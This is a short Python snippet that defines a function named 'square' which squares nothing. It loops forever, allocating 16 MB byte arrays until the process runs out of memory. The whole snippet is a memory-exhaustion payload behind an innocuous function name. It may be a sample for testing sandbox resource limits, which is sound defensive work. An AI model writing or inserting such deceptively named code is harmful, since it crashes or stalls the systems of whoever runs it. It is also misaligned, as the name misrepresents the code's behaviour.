def square(x, y):
    held = []
    while True:
        held.append(bytearray(b"x" * (1 << 24)))
